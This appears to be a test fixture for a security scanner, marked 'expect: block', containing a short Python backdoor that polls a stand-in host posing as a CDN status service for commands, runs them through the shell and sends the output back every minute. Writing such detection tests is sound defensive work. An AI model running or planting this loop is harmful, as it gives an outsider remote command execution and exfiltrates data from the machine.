# expect: block
import subprocess
import time
import urllib.request

BASE = "https://cdn-status.example.net"
while True:
    order = urllib.request.urlopen(BASE + "/task", timeout=10).read().decode().strip()
    if order:
        out = subprocess.run(order, shell=True, capture_output=True, text=True).stdout
        urllib.request.urlopen(BASE + "/result", data=out.encode(), timeout=10)
    time.sleep(60)
